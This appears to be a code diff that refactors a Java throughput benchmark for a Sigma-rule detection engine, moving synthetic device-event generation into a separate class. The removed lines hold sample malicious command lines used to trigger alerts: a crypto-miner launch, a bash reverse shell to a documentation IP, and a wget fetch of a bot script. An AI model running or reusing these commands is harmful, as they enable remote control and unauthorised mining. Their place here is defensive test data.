@@ -1,5 +1,6 @@
 package io.vigil.bench.detect;
 
+import io.vigil.bench.FleetMix;
 import io.vigil.detect.pack.BuiltInPack;
 import io.vigil.detect.sigma.DueTimers;
 import io.vigil.detect.sigma.LoadResult;
@@ -7,18 +8,11 @@ import io.vigil.detect.sigma.SigmaDetection;
 import io.vigil.detect.sigma.SigmaEngine;
 import io.vigil.detect.sigma.SigmaRules;
 import io.vigil.model.Alert;
-import io.vigil.model.event.ConnectionCreate;
 import io.vigil.model.event.DeviceEvent;
-import io.vigil.model.event.Direction;
 import io.vigil.model.event.EventHeader;
-import io.vigil.model.event.Heartbeat;
-import io.vigil.model.event.Login;
-import io.vigil.model.event.ProcessCreate;
-import io.vigil.model.event.SecurityEvent;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.ZoneOffset;
-import java.util.Map;
 import java.util.Random;
 import java.util.concurrent.TimeUnit;
 import java.util.function.Consumer;
@@ -36,9 +30,8 @@ import org.openjdk.jmh.annotations.Warmup;
 
 /**
  * Events per second on one core through the Sigma engine with the whole built-in pack loaded plus
- * N generated process_creation rules (10, 200, 1,000), on a mix like a gateway fleet's: 55%
- * process starts, 30% outbound connections, 10% logins (a fifth failed), 5% heartbeats, from 100
- * devices, with a few malicious process starts (about 0.5%) that raise alerts. One benchmark
+ * N generated process_creation rules (10, 200, 1,000), on the {@link FleetMix} from 100
+ * devices. One benchmark
  * operation is one event (ops/s = events/s), including the alerts it raises and the correlation
  * state it updates.
  *
@@ -63,16 +56,6 @@ import org.openjdk.jmh.annotations.Warmup;
 public class EngineThroughputBenchmark {
   private static final int EVENTS = 1 << 16;
   private static final Instant START = Instant.parse("2026-11-22T10:00:00Z");
-  private static final String[][] PROGRAMS = {
-      {"/usr/bin/ls", "ls -la /var/log"}, {"/usr/bin/cat", "cat /etc/os-release"}, {"/usr/bin/curl", "curl -s https://api.example.com/v1/telemetry"},
-      {"/usr/sbin/ip", "ip addr show eth0"}, {"/usr/bin/python3", "python3 /opt/app/collector.py --interval 10"},
-      {"/bin/sh", "sh -c /opt/app/healthcheck.sh"}, {"/usr/bin/systemctl", "systemctl status app.service"},
-      {"/usr/bin/grep", "grep -c ERROR /var/log/app.log"}, {"/usr/bin/date", "date +%s"}, {"/usr/bin/awk", "awk {print $1} /proc/loadavg"}};
-  private static final String[][] MALICIOUS = {
-      {"/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u wallet"},
-      {"/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
-      {"/usr/bin/wget", "wget http://198.51.100.7/bot.sh -O /tmp/bot.sh"}};
-
   @Param({"10", "200", "1000"})
   public int extraRules;
 
@@ -97,7 +80,7 @@ public class EngineThroughputBenchmark {
     Random random = new Random(42);
     for (int i = 0; i < EVENTS; i++) {
       Instant t = START.plusMillis(i * 10L);
-      events[i] = new DeviceEvent("gw-" + random.nextInt(100), "default", "agent", "0.1.0", t, event(random, EventHeader.at(t, ZoneOffset.UTC)));
+      events[i] = new DeviceEvent("gw-" + random.nextInt(100), "default", "agent", "0.1.0", t, FleetMix.event(random, EventHeader.at(t, ZoneOffset.UTC)));
     }
   }
 
@@ -118,25 +101,6 @@ public class EngineThroughputBenchmark {
     };
     return "title: Generated rule " + i + "\nid: 00000000-0000-4000-8000-" + String.format("%012d", i) + "\nstatus: test\nlevel: medium\n"
         + "logsource:\n  product: linux\n  category: process_creation\ndetection:\n" + detection + "\n";
-  }
-
-  private static SecurityEvent event(Random random, EventHeader h) {
-    int roll = random.nextInt(1000);
-    if (roll < 550) {
-      String[] p = roll < 5 ? MALICIOUS[random.nextInt(MALICIOUS.length)] : PROGRAMS[random.nextInt(PROGRAMS.length)];
-      return new ProcessCreate(h, java.util.List.of(new ProcessCreate.Process(p[0], 1000 + random.nextInt(30000), 900, "0", "root", p[1],
-          Map.of("ParentExecutable", "/usr/lib/systemd/systemd"))));
-    } else if (roll < 850) {
-      String remote = "10.0." + random.nextInt(4) + "." + random.nextInt(250);
-      return new ConnectionCreate(h, java.util.List.of(new ConnectionCreate.Connection(remote, random.nextBoolean() ? "443" : "8883",
-          "10.1.0.5", Integer.toString(40000 + random.nextInt(20000)), Direction.OUT, "TCP", 1200, "1000", "/usr/bin/python3",
-          "python3 /opt/app/collector.py", Map.of())));
-    } else if (roll < 950) {
-      Login.Result result = random.nextInt(5) == 0 ? Login.Result.FAIL : Login.Result.SUCCESS;
-      return new Login(h, java.util.List.of(new Login.Attempt(700, "1000", "operator", "ssh", "/usr/sbin/sshd",
-          "192.168.1." + random.nextInt(20), "52000", "22", result, Map.of())));
-    }
-    return new Heartbeat(h, java.util.List.of(new Heartbeat.Beat(3600, Map.of())));
   }
 
   @Benchmark
